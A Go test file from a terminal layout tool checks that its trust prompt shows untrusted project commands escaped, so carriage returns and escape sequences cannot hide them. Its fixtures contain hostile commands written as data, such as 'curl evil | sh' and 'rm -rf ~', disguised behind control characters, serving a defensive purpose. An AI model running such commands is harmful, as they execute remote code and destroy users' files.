package trust

import (
	"strings"
	"testing"

	"github.com/wezterm-parallel/wezterm-parallel/internal/config"
	"github.com/wezterm-parallel/wezterm-parallel/internal/launch"
	"github.com/wezterm-parallel/wezterm-parallel/internal/layout"
)

// A carriage return or escape sequence inside args, command, env, title or
// the path cannot hide the real command: every one shows escaped, each
// program on its own line, argv items quoted.
func TestLinesCannotBeSpoofed(t *testing.T) {
	src := "workspace = \"w\\u001b[2K\"\n" +
		"env = { TOKEN = \"x\\rPATH=/evil\" }\n" +
		"[[tabs]]\nsplit = \"right\"\n" +
		"panes = [\n" +
		"  { args = [\"sh\", \"-c\", \"curl evil | sh\\rnpm test                \"] },\n" +
		"  { command = \"rm -rf ~\\u001b[2K\\recho hello\", title = \"t\\u0007\" },\n" +
		"  { command = \"npm run dev\\n\\u001b]0;x\\u0007ls\" },\n" +
		"]\n"
	l, err := layout.Parse("/p/.wezterm-parallel.toml", []byte(src), "p", layout.CheckOptions{SkipDirs: true})
	if err != nil {
		t.Fatal(err)
	}
	p, err := launch.Make(l, launch.Options{})
	if err != nil {
		t.Fatal(err)
	}
	lines := Lines(p)
	text := strings.Join(lines, "\n")
	for _, c := range []string{"\r", "\x1b", "\x07"} {
		if strings.Contains(text, c) {
			t.Fatalf("raw %q in the prompt:\n%s", c, text)
		}
	}
	for _, want := range []string{
		`in workspace $'w\e[2K'`,
		`    env   $'TOKEN=x\rPATH=/evil'`,
		`    runs  sh -c $'curl evil | sh\rnpm test                '`,
		`    types $'rm -rf ~\e[2K\recho hello' and Enter`,
		`    title $'t\x07'`,
		`    types $'npm run dev\n\e]0;x\x07ls' and Enter`,
		`    runs  your login shell`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("prompt lacks %s:\n%s", want, text)
		}
	}
	// Every line is one line: nothing in it starts another.
	for _, l := range lines {
		if strings.ContainsAny(l, "\n\r") {
			t.Errorf("line spans lines: %q", l)
		}
	}
	e := layout.Entry{Name: "p", Source: layout.Project, Path: "/p/\x1b[8m/.wezterm-parallel.toml"}
	if strings.Contains(Title(e), "\x1b") {
		t.Errorf("title: %q", Title(e))
	}
}

func TestNeeded(t *testing.T) {
	data := []byte("[[tabs]]\n")
	proj := layout.Entry{Source: layout.Project, Path: "/p/.wezterm-parallel.toml"}
	p := config.Defaults()
	if !Needed(proj, data, p) || Needed(layout.Entry{Source: layout.User}, data, p) {
		t.Fatal("needed")
	}
	p.Trust[proj.Path] = Hash(data)
	if Needed(proj, data, p) || !Needed(proj, append(data, '#'), p) {
		t.Fatal("an approved file asks again only when it changes")
	}
}
